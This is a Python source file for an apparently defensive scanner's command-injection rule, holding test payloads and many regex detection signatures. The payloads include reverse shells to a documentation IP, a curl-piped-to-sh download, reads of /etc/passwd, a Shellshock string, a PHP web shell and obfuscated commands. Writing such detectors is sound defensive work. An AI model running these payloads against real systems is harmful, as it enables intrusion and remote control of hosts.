"""Command injection: a value that a shell runs.

`8.8.8.8; cat /etc/passwd`, `$(id)`, `| nc 192.0.2.1 4444 -e /bin/sh`, `& ping -n 10 127.0.0.1 &`: where a program hands values to
a shell, separators end its command and begin another one.

The rule looks for a separator or a substitution followed by a program that attackers call, with what they call it with, for
shells and downloads in one line, and for the same of PowerShell and cmd. Prose with pipes, semicolons and names of programs
passes.

To fix: call programs with a list of arguments and no shell; allow lists for values.

What it does not protect against: options that are injected into one command (`--output=…`), programs of the application's own.
"""

from yett.formats.inspected import Origin
from yett.model.rule import AttackRule, Payload, Severity
from yett.rules.inspection.command_judgements import bare, code_goes_on, is_program, known, separated, spelt, weighs
from yett.rules.inspection.command_words import (
    ALWAYS,
    BARE,
    BEGINS,
    BREAK,
    CALLED,
    END,
    ENDS,
    SPELT,
    SPLIT,
    WITH_ARGUMENT,
    any_of,
)
from yett.rules.inspection.programs import NAMED, WORDED
from yett.rules.inspection.signature import LINE_BREAK, NAMES, PARAMETERS, TEXTS, Signature

RULE = AttackRule(
    id="command-injection",
    title="Command injection",
    severity=Severity.CRITICAL,
    owasp=("API8:2023", "API10:2023"),
    cwe=(78, 77, 88),
    references=(
        "https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html",
        "https://capec.mitre.org/data/definitions/88.html",
    ),
    matches=(
        Payload("8.8.8.8; cat /etc/passwd", "query host"),
        Payload("x | id"),
        Payload("$(whoami)", "query q"),
        Payload("`id`", "form name"),
        Payload("a && ping -c 10 127.0.0.1"),
        Payload("a|nc -e /bin/sh 192.0.2.1 4444"),
        Payload("; curl http://192.0.2.1/x.sh | sh", "header X-Host"),
        Payload("() { :; }; /bin/bash -c 'id'", "header User-Agent"),
        Payload("& dir C:\\", "query f"),
        Payload("powershell -nop -w hidden -enc SQBFAFgA"),
        Payload("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        Payload(";sleep${IFS}10;", "query q"),
        Payload("x\nid\n", "query q"),
        Payload("c''at /e?c/p?sswd"),
        Payload("<?php system($_GET['c']); ?>"),
        Payload("x;dmidecode", "query q"),
        Payload("photo.jpg|rsync a b", "form file"),
        Payload("|sort", "query q"),
        Payload("w'h'o\"am\"i", "query q"),
        Payload("c\\at /tmp/x"),
        Payload("${PATH#*/}"),
        Payload("<(cat /tmp/x)", "query q"),
        Payload("printf di | rev | sh"),
        Payload('"|id|"', "query q"),
        Payload("x.png&bcdboot/r x"),
        Payload("; netsh firewall set opmode disable"),
        Payload("; Get-Content secret.txt", "form q"),
        Payload("forfiles /p c:\\windows /c calc.exe"),
        Payload("; n=$(echo abc); if [ 3 -ne ${#n} ]; then sleep 0; else sleep 9; fi #", "form q"),
        Payload(";{u'n'ame,-a}", "query q"),
        Payload("x;/???/b?s?64 notes.txt", "query q"),
        Payload("& n^et^stat", "query q"),
        Payload("'; $'\\x69\\x64' #", "form q"),
        Payload('$(<"/etc/motd")', "query q"),
        Payload("';die(strrev('abc'));//", "query q"),
    ),
    passes=(
        Payload("Open the door; cat and dog come in"),
        Payload("a | b | c"),
        Payload("Tom & Jerry; who & what"),
        Payload("run `make` and then `git push`"),
        Payload("use id; sort by date"),
        Payload("first line\nfind the second line\nsort it out"),
        Payload("cost is $(5) or `x`"),
        Payload("Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "header User-Agent"),
        Payload("type | id | name", "body /columns"),
        Payload("fish &amp; chips; rice"),
        Payload("; this is a comment of a configuration"),
        Payload("it's John's car, isn't it"),
        Payload("a 'quoted' word and \"id\""),
        Payload("AT&T", "body /company"),
        Payload("|date|", "body /cell"),
        Payload("rock &roll;more"),
        Payload("I<(Spec 1.1) [optional]"),
        Payload("L<CPAN.pm|CPAN>"),
        Payload("$(TAR) and $(MAKE)"),
        Payload("``pip``, instead of ``Preferences/pip``"),
        Payload("`npm update -g` updates packages"),
        Payload("```bash\nnpm diff --diff=pkg@2.0.0\n```"),
        Payload("id;name;type;date;", "form columns"),
        Payload("cats;dogs;find them all", "query q"),
        Payload("see print(x); then exit(0)", "form q"),
        Payload("C:\\temp\\cat; it's fine", "form q"),
    ),
)

_PLACES = (PARAMETERS | NAMES | {Origin.COOKIE, Origin.HEADER, Origin.FILE_NAME}) - {Origin.XML_NAME}


SIGNATURES = (
    Signature(
        id="command-line",
        pattern=rb"(?:[;|&\n]|\$\(|<\()[\s!({|&;]{0,8}(?:(?:[\w.\-]{0,20}/){0,4}" + CALLED + rb"|\w{1,20}=\$\()|" + SPELT,
        reason="a separator of a shell, and a command line",
        needle=(
            rb"(?:[;|&]|\$\(|<\(|"
            + LINE_BREAK
            + rb")[\s!({|&;]{0,8}(?:(?:[\w.\-]{0,20}/){0,4}"
            + CALLED
            + rb"|\w{1,20}=\$\()|"
            + SPELT
        ).replace(rb"\n", LINE_BREAK),
        where=_PLACES,
        whole=True,
        confirm=weighs,
    ),
    Signature(
        id="code-after-quote",
        pattern=rb"(?:^|['\"\w)\]])[\s)\]]*[;.]\s*@?(?:exit|die|print|print_r|echo|var_dump|system|passthru|exec|shell_exec|phpinfo|assert|eval"
        rb"|file_get_contents|file_put_contents|include|require|usleep|sleep|chr|printf|popen|call_user_func(?:_array)?|base64_decode|readfile"
        rb"|highlight_file|show_source|scandir|create_function)\s*\([^\n]{0,200}?\)\s*\)*\s*(?:;?\s*(?://|#|/\*|\.\s*['\"]|\?>)|;\s*['\"]|;?\s*$)",
        reason="code after a quote or a statement of the application",
        where=PARAMETERS | NAMES | {Origin.COOKIE},
        confirm=lambda found: code_goes_on(found),
    ),
    Signature(
        id="redirected",
        pattern=rb"^[\s'\"]*(?:\$\(\s*)?<\s*['\"]?/(?:etc|proc|var|home|root|usr|opt|tmp|dev)/[\w./\-]{1,80}['\"]?\s*\)?[\s'\"]*$",
        reason="a file that a shell reads",
        where=_PLACES,
    ),
    Signature(
        id="known-program",
        pattern=BEGINS + rb"(?:" + any_of(NAMED) + rb")(?:\.exe)?" + ENDS,
        reason="a separator of a shell, and a program",
        where=_PLACES,
        confirm=known,
    ),
    Signature(
        id="lone-program",
        pattern=rb"^[\s'\"]*[;|&`]{1,2}\s*(?:[\w.\-]{0,20}/){0,4}(?:" + any_of(WORDED) + rb")[\s'\"#;&`]{0,4}$",
        reason="a separator of a shell, and a program",
        where=_PLACES - {Origin.HEADER},
        confirm=lambda found: len(found.text) <= 40,
    ),
    Signature(
        id="into-a-shell",
        pattern=rb"\|\s*(?:/(?:usr/)?bin/)?(?:ba|da|z|k|c)?sh\s*['\"#;]{0,2}\s*$",
        reason="what is written is run by a shell",
        where=_PLACES,
        confirm=lambda found: (
            len(found.text) <= 300 and found.start > 0 and b"`" not in found.text and not is_program(found.text)
        ),
    ),
    Signature(
        id="spelt-apart",
        pattern=rb"(?:^|[;|&`(\s])[\w/]{0,30}(?:\w(?:''|\"\"|['\"]\w{1,8}['\"]|\\\w|\$[@*]|\$\(\))|['\"]\w{1,8}['\"]\w)"
        rb"[\w/'\"\\$@*()`]{0,40}",
        reason="a command spelt to deceive",
        where=_PLACES,
        confirm=spelt,
    ),
    Signature(
        id="expansion",
        pattern=rb"^[^\s$]{0,20}\$\{!?\w{0,30}(?:\[[^\]]{0,10}\])?"
        rb"(?:[#%^,]|@\w|/{1,2}\w|:\d)(?:[^{}]|\{\}){0,60}\}?\}[^\s]{0,20}$"
        rb"|^(?:[^\s]{0,20}[=;|&])?[<>]\(\s*[a-z][\w/.\- ]{1,60}\)"
        rb"|^[\s;&|]*alias\s+\w{1,20}=|^!(?:!|-?\d|[a-z]{2,12}\b\s*$)|^~[+\-](?:/|$)|\b\w{1,20}=\$?['\"]?[^\s'\"]{1,40}['\"]?\s*(?:&&|;)\s*\$\w"
        rb"|^\s*(?:time|nice|nohup|setsid|xargs|exec|command|builtin|stdbuf\s+-\S+|timeout\s+\d+)\s+(?:-\S+\s+)?"
        rb"(?:nc|ncat|netcat|sh|bash|curl|wget|cat|ls|id|ping6?|python[23]?|perl|ruby|php|telnet|ssh|socat)\b\s*(?:[-/\w.]|$)",
        reason="an expansion or a command of a shell",
        where=PARAMETERS | NAMES | {Origin.COOKIE},
        confirm=lambda found: len(found.text) <= 120 and not is_program(found.text),
    ),
    Signature(
        id="windows",
        pattern=rb"(?:^|[;|&`\s(])(?:forfiles|pcalua|cmdkey|diskshadow|installutil|msbuild|odbcconf|regasm|regsvcs|mavinject"
        rb"|presentationhost|syncappvpublishingserver|xwizard)(?:\.exe)?\s+[/-]\w"
        rb"|(?:^|[;|&`({]\s*)(?:Get|Set|New|Remove|Invoke|Start|Stop|Add|Out|Write|Import|Export|Copy|Move|Clear)-(?:Content|ChildItem"
        rb"|Item|ItemProperty|Process|Service|Command|Expression|WebRequest|RestMethod|Location|Host|Clipboard|Credential"
        rb"|WmiObject|CimInstance|ExecutionPolicy|EventLog|Module|Acl|PSSession|LocalUser)(?:\s+[-\"'$\w.\\/]|\s*[;|&)]|$)"
        rb"|%COMSPEC%\s+/[ckv]\b|\bcmd(?:\.exe)?\s+(?:/\w\S*\s+){1,4}[\"\w]|^[;|&\s]*start\s+(?:/b\s+)?(?:cmd|powershell|calc|notepad)\b",
        reason="a command of Windows",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 300 and not is_program(found.text),
    ),
    Signature(
        id="separated",
        pattern=SPLIT + rb"[\s({'\"+|&$\\]*(?:" + ALWAYS + rb"(?:[\s;|&`)'\"<>\n$]|$)|" + WITH_ARGUMENT + rb")",
        reason="a separator of a shell, and a program with arguments",
        needle=BREAK + rb"[\s({'\"+|&$\\]*(?:" + ALWAYS + rb"(?:[\s;|&`)'\"<>\n$]|$)|" + WITH_ARGUMENT + rb")",
        where=_PLACES,
        confirm=separated,
    ),
    Signature(
        id="bare",
        pattern=SPLIT + rb"[\s({'\"+]*" + BARE + END + rb"|^(?:whoami|id|ls|pwd|uname)[;|&]",
        reason="a separator of a shell, and a program",
        needle=BREAK + rb"[\s({'\"+]*" + BARE + END + rb"|\b(?:whoami|id|ls|pwd|uname)[;|&]",
        where=_PLACES,
        confirm=bare,
    ),
    Signature(
        id="substituted",
        pattern=rb"\$\(\s*(?:"
        + ALWAYS
        + rb"|"
        + WITH_ARGUMENT
        + rb"|"
        + BARE
        + rb"\s*\))|^`\s*(?:"
        + BARE
        + rb"|"
        + ALWAYS
        + rb"[^`]*|"
        + WITH_ARGUMENT
        + rb"[^`]*)\s*`$|\$\{ifs\}|\$ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),[^}]+\}",
        reason="a substitution of a shell",
        needle=rb"\$\(\s*[\w/.]|`\s*[\w/.]|\$\{?ifs\b|\{(?:cat|ls|nc|wget|curl|ping|echo|bash|sh),",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 300 and not is_program(found.text),
    ),
    Signature(
        id="shell",
        pattern=rb"/dev/(?:tcp|udp)/[\w.\-]{1,80}/\d|\bn(?:et)?c(?:at)?(?:\.exe)?\s+[^\n|;]*?\s?-e\s*[/\w]"
        rb"|\bn(?:et)?c(?:at)?\b[^\n|;]+\|\s*/?(?:bin/)?(?:ba)?sh\b|\bmkfifo\s+/tmp|\b(?:ba|da|z|k"
        rb"|c)?sh\s+-i\s*(?:>|2>|<)|\bsocket\.socket\(.*?(?:subprocess|os\.dup2|pty\.spawn)"
        rb"|\bpython[23]?\s+-c\s+['\"]import\s|\b(?:perl|ruby|php|lua|node)\s+-(?:e|r)\s+['\"]|\bphp\s+-r\s"
        rb"|\bfsockopen\s*\(.+?exec|/bin/(?:ba|da|z)?sh\s+(?:-c|-i)\b",
        reason="a shell for somebody else",
        needle=rb"/dev/(?:tcp|udp)/|\bn(?:et)?c(?:at)?(?:\.exe)?\s|mkfifo\s+/tmp|sh\s+-[ic]\b|socket\.socket\("
        rb"|python[23]?\s+-c\s|(?:perl|ruby|php|lua|node)\s+-[er]\s|fsockopen\s*\(",
        confirm=lambda found: len(found.text) <= 1_000 and not is_program(found.text),
    ),
    Signature(
        id="download",
        pattern=rb"\b(?:wget|curl)\b[^\n|;&]+(?:\|\s*(?:sudo\s+)?(?:/bin/)?(?:ba|da|z)?sh\b|(?:;|&&)\s*(?:chmod"
        rb"|(?:ba)?sh|\./))|\b(?:wget|curl)\s+(?:-\w+\s+\S*\s*){0,3}(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}"
        rb"|\bcertutil(?:\.exe)?\s.{0,40}-urlcache|\bbitsadmin\s.{0,40}/transfer|\bmshta\s+(?:https?:"
        rb"|javascript:|vbscript:)|\bregsvr32\s.{0,40}/i:",
        reason="a download that is run",
        confirm=lambda found: (
            len(found.text) <= 400
            and (found.start <= 60 or b" " not in found.text[: found.start])
            and not is_program(found.text)
        ),
    ),
    Signature(
        id="powershell",
        pattern=rb"\bpowershell(?:\.exe)?\s+(?:-\w+\s+)*-(?:e|ec|enc|encodedcommand|nop|noprofile|w|windowstyle|ep|exec"
        rb"|executionpolicy|c|command|noni)\b|\b(?:IEX|Invoke-Expression|Invoke-WebRequest|Invoke-Command"
        rb"|Invoke-Mimikatz|DownloadString|DownloadFile|FromBase64String|Start-Process"
        rb"|New-Object\s+(?:System\.)?Net\.)\b\s*[\s('\"$]|\bcmd(?:\.exe)?\s+/[ck]\s|\bwmic\s+(?:process|os"
        rb"|/node)|\bnet\s+(?:user|localgroup)\s+\w+\s+\S+\s*/add",
        reason="a command of PowerShell or cmd",
        confirm=lambda found: len(found.text) <= 600 and not is_program(found.text),
    ),
    Signature(
        id="shellshock",
        pattern=rb"\(\s*\)\s*\{[^}]*\}?\s*;",
        reason="a function definition for Bash (CVE-2014-6271)",
        where=PARAMETERS | NAMES | {Origin.HEADER, Origin.COOKIE},
        confirm=lambda found: found.start <= 16 and (found.start == 0 or found.value.origin in (Origin.HEADER, Origin.URL)),
    ),
    Signature(
        id="disguised",
        pattern=rb"\b(?:c(?:''|\"\"|\\|\$@)at|ca(?:''|\"\"|\\|\$@)t|w(?:''|\"\"|\\|\$@)(?:hoami|get)|wh(?:''|\"\"|\\"
        rb"|\$@|oa\$@)\S{1,12}|b(?:''|\"\"|\\)ash|l(?:''|\"\"|\\)s|i(?:''|\"\"|\\|\$@)d|n(?:''|\"\"|\\)c|p(?:''"
        rb"|\"\"|\\)ing)\b|/(?:e\?c|et\?|\?tc|e\*c|\?\?\?)/(?:p\S{0,10}|\?{2,})|/\?{3}/(?:\?{2,}|[\w?*]{2,})"
        rb"|\$\{?(?:PATH|HOME|SHELL|PWD)(?::\d+:\d+|%%[^}]{1,20})\}|\$\{@\w"
        rb"|\$\(\s*\(?\s*\d+\s*[+*\-]\s*\d+\s*\)\s*\)|\bexpr\s+\d+\s*[+*\-]\s*\d+\s*[`)]|\brev\s*<<<"
        rb"|\bprintf\s+['\"]\\\\x|\bbase64\s+(?:-d|--decode)\b.{0,40}\|\s*(?:ba)?sh",
        reason="a command spelt to deceive",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 300 and not is_program(found.text),
    ),
    Signature(
        id="batch",
        pattern=rb"\bfor\s+(?:/[dflr]\b.*?)?%{1,2}\S{1,12}\s*in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s+\S+\s+\("
        rb"|defined\s+\w+\s*(?:\(|set\s)|\"?%[\w:~\-]+%?\"?\s*(?:==|neq|equ)|errorlevel\s+\d"
        rb"|\(?[\"\w%]{1,20}\)?\s*(?:==|geq|leq|neq|equ|gtr|lss)\s*\(?[\"\w%,! ]{1,30}\)?\s+(?:echo|cd|set|\())"
        rb"|\bCMD=\\?\$\\?['\"]|\bcd\s+/?;\s*cd\s+\w"
        rb"|^[^\s]{0,40}[;|&]{1,2}\s*[a-z][\w.\-]{1,30}(?:\s+--?[a-z][\w\-]*|<<<)",
        reason="a line of a shell",
        needle=rb"%\S{1,12}\s*in\s*\(|\bif\s+(?:/i\s+)?(?:not\s+)?(?:exist\s|defined\s|\"?%|errorlevel\s"
        rb"|\(?[\"\w%]{1,20}\)?\s*(?:==|(?:geq|leq|neq|equ|gtr|lss)\s))|\bcmd=\\?\$|\bcd\s+/?;\s*cd\s"
        rb"|[;|&]\s*[a-z][\w.\-]{1,30}(?:\s+-|<<<)",
        confirm=lambda found: len(found.text) <= 200 and found.start <= 40 and b"\n" not in found.text.strip(),
    ),
    Signature(
        id="file-and-device",
        pattern=rb"^[\s'\"]*(?:/(?:usr/)?s?bin/(?:cat|ls|id|ping|nc|wget|curl|bash|sh|perl|python|uname|ps|whoami|rm"
        rb"|chmod|echo|tail|head|sleep)|(?:ping6?\s+-[cnil]|cat\s+/(?:etc|proc|var|home|root)|type\s+[a-z]:\\"
        rb"|ls\s+-\w{1,5}\s+/|rm\s+-rf?\s|dir\s+[a-z]:\\|cat\s+\.\./)[\s\w]?)",
        reason="a command",
        where=_PLACES,
        confirm=lambda found: len(found.text) <= 200 and found.start == 0,
    ),
    Signature(
        id="program-call",
        pattern=rb"\b(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec)\s*\(\s*['\"(]?\s*(?:\$_(?:GET|POST"
        rb"|REQUEST|COOKIE|SERVER)|/?(?:usr/)?s?bin/|"
        + ALWAYS
        + rb"|(?:cat|ls|dir|ping|echo|nc|sh|bash|id|rm|sleep|pwd)\b[\s'\"])|^[\s;|&'\"]*(?:system|exec|eval"
        rb"|passthru|shell_exec|popen)\s*\(\s*['\"]|\$\{\s*(?:sleep|system|exec|passthru|phpinfo)\s*\("
        rb"|<\?(?:php|=)\s*[\w$]|\bmove_uploaded_file\s*\(|\$_(?:GET|POST|REQUEST|COOKIE)\s*\["
        rb"|\beval\s*\(\s*(?:\$_|base64_decode|gzinflate|str_rot13|stripslashes|compile\(|__import__|chr\()"
        rb"|__import__\s*\(\s*['\"](?:os|subprocess|pty|commands|socket)|\bos\.(?:system|popen|execv?p?"
        rb"|spawn\w*)\s*\(\s*['\"]|\bsubprocess\.(?:Popen|call|run|check_output|getoutput)\s*\(\s*\[?['\"](?:/"
        rb"|id|cat|ls|sh|bash|nc|curl|wget|whoami)|\brequire\s*\(\s*['\"]child_process['\"]\s*\)"
        rb"|\bchild_process\.|\bprocess\.mainModule\.\w|\bphpinfo\s*\(\s*\)|\bassert\s*\(\s*['\"$]",
        reason="code that runs a command",
        where=TEXTS,
        confirm=lambda found: len(found.text) <= 4_000 and not is_program(found.text),
    ),
)
